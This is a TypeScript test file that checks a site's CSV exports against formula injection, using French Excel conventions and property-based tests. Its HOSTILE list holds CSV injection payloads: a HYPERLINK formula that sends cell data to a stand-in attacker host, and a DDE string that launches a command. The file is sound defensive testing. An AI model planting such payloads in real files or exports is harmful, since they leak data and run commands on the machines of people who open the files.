/**
 * Every CSV the site writes goes through server/common/csv.ts: French Excel's convention (UTF-8 BOM,
 * `;`, CRLF), cells quoted when they must be, and the formula guard (OWASP "CSV Injection"): a cell
 * starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written behind an apostrophe. Each
 * export is read back with csv-parse, hostile names and titles included.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { matchmakingSessionNeeds } from '../../db/schema';
import { toCsv } from '../../server/common/csv';
import { TEMPLATE_HEADERS } from '../../server/imports';
import { indicatorsCsv } from '../../server/indicators/report';
import { COUNTED } from '../../server/indicators/service';
import { signedIn } from '../facilitation/helpers';
import { createTestApp, type TestApp } from '../support/app';
import { makeMatchmakingSession, makeNeed, makeOrganization, makePerson } from '../support/factories';

/** Reads a file as a spreadsheet would: BOM, `;`, quoted cells. */
const readBack = (text: string): string[][] => parse(text, { delimiter: ';', bom: true });

/** What a spreadsheet would take for a formula (or, for tab and CR, a cell that hides one). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
  '+33 6 12 34 56 78',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Any text, often starting with what a guard or a quote must handle. */
const cell = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＠', ' ', '"', ';', "'"), fc.string())
    .map(([head, rest]) => head + rest),
);

describe('toCsv', () => {
  it('writes the French Excel convention: BOM, semicolons, CRLF, quotes only where needed', () => {
    const text = toCsv([
      ['Nom', 'Heures', 'Note'],
      ['Régie « Nord »; Belfort', '14,5', 'dit "oui"\nsur deux lignes'],
      ['Lion', 1.5, null],
    ]);
    expect(text).toBe(
      '\ufeffNom;Heures;Note\r\n"Régie « Nord »; Belfort";14,5;"dit ""oui""\nsur deux lignes"\r\nLion;1,5;\r\n',
    );
    expect(readBack(text)).toEqual([
      ['Nom', 'Heures', 'Note'],
      ['Régie « Nord »; Belfort', '14,5', 'dit "oui"\nsur deux lignes'],
      ['Lion', '1,5', ''],
    ]);
  });

  it('quotes a lone line feed or carriage return, which would otherwise start a new row', () => {
    expect(toCsv([['a\nb', 'c\rd']])).toBe('\ufeff"a\nb";"c\rd"\r\n');
  });

  it('writes every formula-looking text behind an apostrophe, and nothing else', () => {
    const plain = ['Comptable', '2 + 2', 'a=b', 'x@y.fr', "l'atelier", ' =1+1', '14,5'];
    const rows = readBack(toCsv([HOSTILE, plain]));
    expect(rows[0]).toEqual(HOSTILE.map((cell) => `'${cell}`));
    expect(rows[1]).toEqual(plain);
  });

  it('leaves a negative number given as a number alone: it is ours, not typed by anyone', () => {
    expect(readBack(toCsv([[-3, -0.5, '-3']]))).toEqual([['-3', '-0,5', "'-3"]]);
  });

  it('reads back any text as written, guarded when it starts like a formula', () => {
    fc.assert(
      fc.property(
        // A table as the exports write them: every row as wide as the headers.
        fc.integer({ min: 1, max: 5 }).chain((width) =>
          fc.array(fc.array(cell, { minLength: width, maxLength: width }), {
            minLength: 1,
            maxLength: 5,
          }),
        ),
        (rows) => {
          const back = readBack(toCsv(rows));
          // As the file travels, in UTF-8 (a lone surrogate becomes U+FFFD on the way).
          const utf8 = (cell: string) => Buffer.from(cell).toString();
          expect(back).toEqual(
            rows.map((row) => row.map((cell) => utf8(FORMULA_START.test(cell) ? `'${cell}` : cell))),
          );
          for (const cell of back.flat()) expect(cell).not.toMatch(FORMULA_START);
        },
      ),
      { numRuns: 300, seed: 12 },
    );
  });

  it('guards the indicators file too (a territory name is written in every row)', () => {
    const zero = Object.fromEntries(COUNTED.map((key) => [key, 0])) as Record<
      (typeof COUNTED)[number],
      number
    >;
    const text = indicatorsCsv(
      { months: [{ month: '2026-01', values: zero }], totals: zero },
      { from: '2026-01-01', to: '2026-01-31' },
      HOSTILE[0],
    );
    const rows = readBack(text);
    expect(rows[0]).toEqual(['Territoire', 'Mois', 'Indicateur', 'Valeur', 'Unité']);
    expect(rows.slice(1).map((row) => row[0])).toEqual(rows.slice(1).map(() => `'${HOSTILE[0]}`));
  });
});

describe('the CSV exports, read back', () => {
  let t: TestApp;
  let sessionId: number;
  let facilitatorEmail: string;

  beforeAll(async () => {
    t = await createTestApp();
    const facilitator = await makePerson(t.db, { territories: ['90'] });
    const org = await makeOrganization(t.db, { name: HOSTILE[3] });
    const need = await makeNeed(t.db, { org, title: HOSTILE[0], hours: 14 });
    const session = await makeMatchmakingSession(t.db, {
      organizations: [org],
      createdBy: facilitator,
      title: HOSTILE[2],
    });
    await t.db.insert(matchmakingSessionNeeds).values({ sessionId: session.id, needId: need.id });
    sessionId = session.id;
    facilitatorEmail = facilitator.email;
  });
  afterAll(async () => t?.close());

  async function download(url: string) {
    const browser = await signedIn(t.app, facilitatorEmail);
    const response = await browser.get(url);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = readBack(response.body);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    return rows;
  }

  it('the session sheet: a hostile title, structure and need come out as text', async () => {
    const rows = await download(`/animation/rencontres/${sessionId}/fiche.csv`);
    expect(rows[0]).toEqual(['Rubrique', 'Intitulé', 'Structures', 'Heures par semaine', 'Détail']);
    expect(rows[1][1]).toBe(`Rencontre d’affaires : ${HOSTILE[2]}`);
    expect(rows.find((row) => row[0] === 'Structure invitée')?.[1]).toBe(`'${HOSTILE[3]}`);
    const need = rows.find((row) => row[0] === 'Besoin');
    expect(need?.[1]).toMatch(/^'=HYPERLINK\(/);
    expect(need?.[2]).toBe(`'${HOSTILE[3]}`);
  });

  it('the indicators', async () => {
    const rows = await download('/animation/indicateurs.csv?departement=90&du=2026-01-01&au=2026-02-28');
    expect(rows[0]).toEqual(['Territoire', 'Mois', 'Indicateur', 'Valeur', 'Unité']);
    expect(rows).toHaveLength(1 + 3 * 11);
    expect(rows[1].slice(0, 2)).toEqual(['Territoire de Belfort (90)', '2026-01']);
  });

  it('the import template', async () => {
    const rows = await download('/animation/import/modele.csv');
    expect(rows).toEqual([TEMPLATE_HEADERS.map(([, header]) => header)]);
  });
});
